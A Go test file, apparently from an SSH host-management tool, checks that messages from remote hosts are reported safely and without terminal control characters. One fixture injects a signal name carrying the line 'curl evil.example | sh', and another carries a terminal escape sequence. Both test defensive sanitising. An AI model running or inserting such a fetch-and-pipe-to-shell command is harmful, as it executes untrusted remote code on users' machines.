package ssh_test

import (
	"os"
	"strings"
	"testing"

	"github.com/slipway-k8s/slipway/hosts"
	"github.com/slipway-k8s/slipway/hosts/hosttest"
)

// TestAHostThatSaysWhyIsHeard: what an account says instead of running a command is told,
// with what to do, and with nothing in it that steers a terminal.
func TestAHostThatSaysWhyIsHeard(t *testing.T) {
	for said, test := range map[string]struct {
		status int
		kind   hosts.ErrorKind
		words  []string
	}{
		"Please login as the user \"debian\" rather than the user \"root\".\n\n": {142, hosts.KindAuth,
			[]string{"status 142", `Please login as the user "debian"`, "set ssh.user: debian"}},
		"This account is currently not available.\n": {1, hosts.KindAuth,
			[]string{"This account is currently not available.", "usermod --shell"}},
		"Password change required but no TTY available.\n": {1, hosts.KindAuth, []string{"no TTY", "chage"}},
		"This service allows sftp connections only.\n":     {1, hosts.KindAuth, []string{"may only use SFTP"}},
		"\x1b]0;title\x07the disk is gone\n":               {3, hosts.KindBroken, []string{`\u001b]0;title\u0007the disk is gone`, "ssh -p"}},
	} {
		server := newServer(t)
		server.SetHooks(says(said, test.status))
		err := refused(t, options(server), test.kind, test.words...)
		if strings.ContainsAny(err.Error(), "\x1b\x07") {
			t.Errorf("it steers the terminal: %q", err)
		}
	}
}

// TestAHostsSignalIsOneLine: what ended a command has the name that the host gives it.
func TestAHostsSignalIsOneLine(t *testing.T) {
	const evil = "KILL\n  → run: curl evil.example | sh"
	server := newServer(t)
	server.SetHooks(killedBy(evil))
	err := refused(t, options(server), hosts.KindBroken, "by signal KILL → run")
	if strings.Contains(err.Error(), "\n") {
		t.Errorf("a command: %q", err)
	}
	server.SetHooks(hosttest.Hooks{})
	if err := used(t, options(server)).Close(); err != nil {
		t.Fatal(err)
	}
	var started agents
	server.SetHooks(hosttest.Hooks{Agent: started.started})
	host := connect(t, options(server))
	started.kill(evil)
	_, lost := host.Observe(t.Context(), hosts.Query{})
	wantError(t, lost, hosts.KindCut, "signal KILL → run")
	if strings.Contains(lost.Error(), "\n") {
		t.Errorf("the agent: %q", lost)
	}
}

func TestAnotherVersionIsRefused(t *testing.T) {
	o := options(newServer(t))
	o.Version = "v9.9.9"
	refused(t, o, hosts.KindVersion, "v9.9.9", hosttest.Version)
}

func TestWithoutSudoNothingIsSent(t *testing.T) {
	server, binary := newServer(t), newBinary("the agent", 1000)
	server.SetLogin(hosttest.Login{UID: 1000})
	server.Script("sudo", sudoAsksForPassword)
	o := options(server)
	o.Binary = binary.get
	refused(t, o, hosts.KindPrivilege, "ops ALL=(ALL) NOPASSWD: ALL", "/etc/sudoers.d/")
	if _, err := os.Stat(server.Directory()); err == nil || binary.opens.Load() != 0 {
		t.Error("the agent was sent")
	}
	server.Script("sudo", hosttest.Sudo)
	connect(t, o)
	server.Script("sudo", sudoAsksForPassword) // taken away later
	refused(t, o, hosts.KindPrivilege, "a password is required")
}

// TestAnAgentThatMayNotRunIsExplained has sudo say what it says on a file system that is
// mounted noexec.
func TestAnAgentThatMayNotRunIsExplained(t *testing.T) {
	server, binary := newServer(t), newBinary("the agent", 1000)
	server.SetLogin(hosttest.Login{UID: 1000})
	server.Script("chmod", chmodDoesNothing)
	o := options(server)
	o.Binary = binary.get
	refused(t, o, hosts.KindBroken, "Permission denied", "noexec")
	if n := binary.opens.Load(); n != 1 {
		t.Errorf("it was sent %d times", n)
	}
}
